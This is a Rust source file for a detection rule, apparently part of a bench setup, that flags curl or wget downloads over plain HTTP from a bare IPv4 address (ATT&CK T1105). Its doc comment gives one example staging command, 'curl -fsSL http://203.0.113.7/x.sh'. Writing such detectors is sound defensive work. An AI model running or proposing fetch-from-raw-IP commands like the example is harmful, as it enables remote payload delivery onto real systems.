//! Bench rule: curl or wget fetching from a bare IPv4 address over HTTP.
//!
//! Legitimate downloads name a host; `curl -fsSL http://203.0.113.7/x.sh`
//! names an address, over plain HTTP — a staging server, not a mirror
//! (ATT&CK T1105). One of the four rules that, with the six example rules,
//! give a `dac serve` bench tenant ten distinct Rust rules.

use dac_rule_sdk::prelude::*;
use dac_rule_sdk::shell;

const FETCHERS: [&str; 2] = ["curl", "wget"];

dac_rule_sdk::rule! {
    name: "Download from a Bare IP Address",
    uuid: "0ceaa3c7-c20c-4a02-b2d2-2c2d04955ede",
    severity: Medium,
    description: "curl or wget is given an http:// URL whose host is an IPv4 address.",
    tags: ["attack.command-and-control", "attack.t1105"],
    prefilter: { fields: ["command_line"], literals: ["http://"] },
    evaluate: ip_download,
}

fn ip_download(event: &Event) -> Option<Finding> {
    let command_line = event.text("command_line")?;
    if !shell::all_stages(&command_line).any(|stage| {
        let words = shell::words(stage);
        shell::program(&words).is_some_and(|(_, program)| any_of(shell::basename(program), &FETCHERS).is_some())
    }) {
        return None;
    }
    let host = command_line.split("http://").skip(1).map(host_of).find(|host| is_ipv4(host))?;
    Some(Finding::new(format!("download from the address {host}")).matched("command_line", command_line))
}

/// The host of the rest of a URL after `http://`, without port or path.
fn host_of(rest: &str) -> &str {
    let end = rest.find(|c: char| c == '/' || c == ':' || c.is_whitespace()).unwrap_or(rest.len());
    &rest[..end]
}

fn is_ipv4(host: &str) -> bool {
    let parts: Vec<&str> = host.split('.').collect();
    parts.len() == 4 && parts.iter().all(|p| !p.is_empty() && p.len() <= 3 && p.parse::<u8>().is_ok())
}
